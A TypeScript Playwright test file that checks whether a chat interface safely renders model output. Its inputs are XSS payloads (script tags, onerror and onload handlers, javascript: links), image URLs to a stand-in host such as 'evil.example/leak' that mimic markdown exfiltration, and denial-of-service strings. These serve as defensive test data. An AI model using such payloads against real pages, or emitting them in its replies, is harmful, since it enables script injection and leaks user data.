import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { openBrowser, openPage, type Watched } from "./browser.ts";
import { Served } from "./served.ts";
import { articles, composer, show } from "./talk.ts";

let served: Served;
let browser: Browser;
let watched: Watched;
let page: Page;

beforeAll(async () => {
  [served, browser] = await Promise.all([Served.start(), openBrowser()]);
});
beforeEach(async () => {
  watched = await openPage(browser, served.address);
  page = watched.page;
  page.on("dialog", (dialog) => {
    watched.faults.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
});
afterEach(async () => watched.context.close());
afterAll(async () => {
  await browser.close();
  await served.end();
});

/** Whether the page still does what it is for, and nothing was run, fetched or left. */
async function isWell(): Promise<void> {
  expect(watched.faults).toEqual([]);
  expect(watched.strangers).toEqual([]);
  expect(page.url().startsWith(served.address)).toBe(true);
  expect(await page.locator("script").count()).toBe(1);
  await composer(page).fill("still here");
  await composer(page).fill("");
}

test("scripts, frames, forms and handlers are texts", async () => {
  await show(
    page,
    [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(2)> <svg onload=alert(3)></svg>",
      '<iframe src="https://evil.example/"></iframe> <form action="https://evil.example/"><button>go</button></form>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/">',
      "<style>body { display: none }</style>",
    ].join("\n\n"),
  );
  const answer = articles(page).last();
  await answer.getByText("<script>alert(1)</script>").waitFor();
  expect(await answer.locator("img, iframe, form, meta, base, style, svg[onload]").count()).toBe(0);
  await isWell();
});

test("links of dangerous schemes are no links, and others lead out of the page", async () => {
  await show(
    page,
    "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](JAVASCRIPT&colon;alert(1)) <javascript:alert(1)> " +
      "[e](https://llama.example/) [f](file:///etc/passwd) [g](//evil.example)",
  );
  const links = articles(page).last().locator(".markdown a");
  await links.first().waitFor();
  expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(["https://llama.example/"]);
  const link = links.first();
  expect(await link.getAttribute("target")).toBe("_blank");
  expect(await link.getAttribute("rel")).toContain("noopener");
  await isWell();
});

test("pictures that a model names are not fetched", async () => {
  await show(page, "![secret](https://evil.example/leak?q=1) ![x](data:image/svg+xml;base64,AAAA)\n\n[![y](https://evil.example/2)](https://evil.example/3)");
  await articles(page).last().getByText(/evil\.example/).first().waitFor();
  expect(await articles(page).last().locator(".markdown img").count()).toBe(0);
  await page.waitForTimeout(300);
  await isWell();
});

test("formulas that grow, load or style are bounded", async () => {
  await show(
    page,
    [
      "$$x^2 + \\frac{1}{2}$$",
      "$$\\def\\a{\\a\\a}\\a$$",
      "$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png}$$",
      "$$\\style{position:fixed;inset:0}{x}$$",
      `$$${"{".repeat(3000)}x${"}".repeat(3000)}$$`,
    ].join("\n\n"),
  );
  await articles(page).last().locator("math").first().waitFor();
  expect(await articles(page).last().locator("math a, math img, math [href]").count()).toBe(0);
  await isWell();
});

test.each([
  ["one line of two megabytes", "x".repeat(2_000_000)],
  ["brackets without end", "[".repeat(50_000)],
  ["quotes in quotes", `${"> ".repeat(20_000)}deep`],
  ["stars without end", "*a ".repeat(30_000)],
  ["lists in lists", Array.from({ length: 2000 }, (_, i) => `${" ".repeat(2 * i)}- x`).join("\n")],
  ["a table of ten thousand columns", `${"|a".repeat(10_000)}|\n${"|-".repeat(10_000)}|\n${"|b".repeat(10_000)}|`],
  ["a fence that never ends", `\`\`\`js\n${"let x = 1;\n".repeat(50_000)}`],
])("%s", async (_, text) => {
  await show(page, text);
  await isWell();
});
